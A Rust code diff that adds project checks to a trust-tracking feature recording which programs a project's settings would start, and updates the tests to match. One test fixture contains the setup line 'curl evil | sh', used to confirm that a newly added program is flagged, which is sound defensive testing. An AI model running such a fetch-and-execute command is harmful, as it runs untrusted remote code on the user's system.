@@ -6,6 +6,7 @@ use std::path::{Component, Path, PathBuf};
 
 use baton_core::hash::Hash;
 use baton_files::{Dir, FileError, FileMode};
+use baton_wire::project_file::ProjectCheck;
 use baton_wire::project_file::runner::{ExecutorKind, RunnerSettings};
 use serde::{Deserialize, Serialize};
 
@@ -40,7 +41,7 @@ const MOST_PROGRAM_BYTES: u64 = 64 << 20;
 
 impl Programs {
     /// Everything that the settings of a project would start.
-    pub fn of(project: &Dir, settings: &RunnerSettings) -> Self {
+    pub fn of(project: &Dir, settings: &RunnerSettings, checks: &[ProjectCheck]) -> Self {
         let mut programs = BTreeMap::new();
         for (index, line) in settings.setup.iter().enumerate() {
             // A shell reads it: the words are looked for in the line as a whole.
@@ -66,6 +67,10 @@ impl Programs {
             }
             let name = format!("executor {}", executor.name);
             programs.insert(name, described(project, &line, &words));
+        }
+        for check in checks {
+            let line = check.run.join(" ");
+            programs.insert(format!("check {}", check.name), described(project, &line, &check.run));
         }
         if !settings.env.is_empty() && !programs.is_empty() {
             let pairs = settings.env.iter().map(|(name, value)| format!("{name}={value}"));
@@ -299,18 +304,18 @@ mod tests {
         let file =
             settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
         let list = TrustList::new(state.path().join("baton/trusted"));
-        let first = Programs::of(&dir, &file);
+        let first = Programs::of(&dir, &file, &[]);
         assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
         list.allow(project.path(), &first).unwrap();
         assert_eq!(list.trusted(project.path()).unwrap(), first);
         assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");
 
         std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
-        let now = Programs::of(&dir, &file);
+        let now = Programs::of(&dir, &file, &[]);
         let changes = now.changes_since(&list.trusted(project.path()).unwrap());
         assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
         let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
-        let changes = Programs::of(&dir, &other).changes_since(&first);
+        let changes = Programs::of(&dir, &other, &[]).changes_since(&first);
         assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
     }
 
@@ -340,7 +345,7 @@ mod tests {
     fn programs(project: &Path, run: &[&str]) -> Programs {
         let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
         let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
-        Programs::of(&Dir::open(project).unwrap(), &settings(&text))
+        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[])
     }
 
     #[test]
@@ -375,9 +380,9 @@ mod tests {
             std::fs::write(project.path().join(name), "1").unwrap();
         }
         for name in ["a", "b", "c", ".env"] {
-            let before = Programs::of(&dir, &settings(text));
+            let before = Programs::of(&dir, &settings(text), &[]);
             std::fs::write(project.path().join(name), "2").unwrap();
-            let changes = Programs::of(&dir, &settings(text)).changes_since(&before);
+            let changes = Programs::of(&dir, &settings(text), &[]).changes_since(&before);
             assert_eq!(changes.len(), 1, "{name}: {changes:?}");
         }
     }
